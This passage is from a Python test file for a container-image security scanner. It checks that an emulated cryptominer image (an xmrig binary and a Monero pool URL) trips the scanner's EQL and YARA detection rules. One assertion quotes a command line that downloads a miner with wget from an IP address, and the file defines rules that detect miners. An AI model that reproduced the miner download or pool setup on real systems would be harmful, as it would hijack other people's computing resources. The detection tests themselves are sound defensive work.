            self.assertEqual(field(event, "container.image.name"),
                             "docker.io/cryptominer/monero-xmr:latest")
        present = run.present()
        self.assertEqual(sorted(present), ["/etc/group", "/etc/hostname", "/etc/os-release",
                                           "/etc/passwd", "/opt/xmr/config.json",
                                           "/opt/xmr/fetch-config.sh", "/opt/xmr/xmrig"])
        self.assertEqual([field(e, "file.path") for e in run.of("image-file-deleted")],
                         [f"/tmp/{RELEASE}"])
        self.assertEqual(field(present["/opt/xmr/xmrig"], "file.elf.architecture"), "x86-64")
        config = run.of("image-config")[0]
        self.assertEqual(field(config, "process.name"), "xmrig")
        self.assertIn("POOL_URL=stratum+tcp://pool.supportxmr.com:3333",
                      field(config, "process.env_vars"))
        self.assertTrue(any("wget -q http://203.0.113.7/xmrig" in
                            (field(e, "process.command_line") or "")
                            for e in run.of("image-history")))
        self.assertTrue(run.alerts, "the pack raised nothing on the miner image")
        names = set(run.rule_names())
        self.assertLessEqual(names, set(self.names), "alerts of rules outside the scan pack")
        self.assertLessEqual({alert[0] for alert in EMULATION_ALERTS}, set(self.names),
                             "EMULATION_ALERTS names rules the pack no longer has")
        self.assertEqual(sorted((field(a, "kibana.alert.rule.name"), field(a, "event.action"),
                                 field(a, "file.path") or field(a, "process.command_line"))
                                for a in run.alerts), EMULATION_ALERTS)
        self.assertIn("XMRig_Miner_Binary",
                      as_list(field(present["/opt/xmr/xmrig"], "yara.rule")))
        self.assertIn("XMRig_Config_File",
                      as_list(field(present["/opt/xmr/config.json"], "yara.rule")))
        self.assertEqual(summary_row(run, "docker.io/cryptominer/monero-xmr:latest"),
                         {"platform": "linux/amd64", "layers": "5",
                          "alerts": str(len(EMULATION_ALERTS)), "worst": "high"})
        failing = self.scan(path, rules="pack", yara=True, args=["--fail-on-alert"])
        self.assert_exit(failing, 3)


# ---------------------------------------------------------------------------

def write_test_rules(folder):
    rules = {
        "setuid": ("Test Setuid File in Image", "00000000-0000-4000-8000-0000000000a1",
                   'file where event.action == "image-file" and file.attributes == "setuid" '
                   'and file.elf.architecture == "x86-64"'),
        "miner": ("Test Image Runs a Miner", "00000000-0000-4000-8000-0000000000a2",
                  'any where event.action == "image-config" and process.name == "xmrig"'),
    }
    for stem, (name, rule_id, query) in rules.items():
        with open(os.path.join(folder, f"{stem}.toml"), "w") as out:
            out.write(f'''[metadata]
creation_date = "2026/12/01"
maturity = "production"
updated_date = "2026/12/01"

[rule]
author = ["pickaxe tests"]
name = "{name}"
rule_id = "{rule_id}"
description = "A test rule over scan events."
severity = "low"
risk_score = 21
language = "eql"
type = "eql"
index = ["logs-pickaxe.scan-*"]
query = \'\'\'
{query}
\'\'\'
''')


def binary_is_sanitized(path):
    with open(path, "rb") as source:
        tail = b""
        while chunk := source.read(1 << 22):
            if b"__asan_init" in tail + chunk or b"__ubsan_handle" in tail + chunk:
                return True
            tail = chunk[-32:]
    return False


def main():
    global ARGS, SCAN_AVAILABLE, SANITIZED, TEST_RULES
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--pickaxe")
    parser.add_argument("--source-dir")
    parser.add_argument("--show", action="store_true", help="print each scan's command and stderr")
    ARGS, rest = parser.parse_known_args()
    positional = [a for a in rest if not a.startswith("-")][:2]
    if ARGS.pickaxe is None and positional:
        ARGS.pickaxe = positional[0]
        rest.remove(positional[0])
    if ARGS.source_dir is None and len(positional) > 1:
        ARGS.source_dir = positional[1]
        rest.remove(positional[1])
    if ARGS.pickaxe is None:
        parser.error("usage: scan_test.py PICKAXE REPO_ROOT [unittest options]")
    ARGS.pickaxe = os.path.abspath(ARGS.pickaxe)
    ARGS.source_dir = os.path.abspath(ARGS.source_dir or
                                      os.path.join(os.path.dirname(__file__), ".."))
    why = None
    try:
        help_run = subprocess.run([ARGS.pickaxe, "scan", "--help"], capture_output=True,
                                  env=environment(), timeout=60)
        if help_run.returncode != 0:
            why = (f"`pickaxe scan --help` exits {help_run.returncode}: "
                   + help_run.stderr.decode(errors="replace").strip().splitlines()[0]
                   if help_run.stderr.strip() else f"exit {help_run.returncode}")
    except (OSError, subprocess.TimeoutExpired) as error:
        why = f"cannot run {ARGS.pickaxe}: {error}"
    SCAN_AVAILABLE = why is None
    if SCAN_AVAILABLE:
        SANITIZED = binary_is_sanitized(ARGS.pickaxe)
    scratch = tempfile.mkdtemp(prefix="pickaxe-scan-rules-")
    try:
        TEST_RULES = scratch
        write_test_rules(scratch)
        program = unittest.main(argv=[sys.argv[0], *rest], verbosity=2, exit=False)
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
    result = program.result
    if not result.wasSuccessful():
        return 1
    if not SCAN_AVAILABLE:
        print(f"SKIPPED: {why} (the image builder's own checks passed)")
        return SKIP
    return 0


if __name__ == "__main__":
    sys.exit(main())
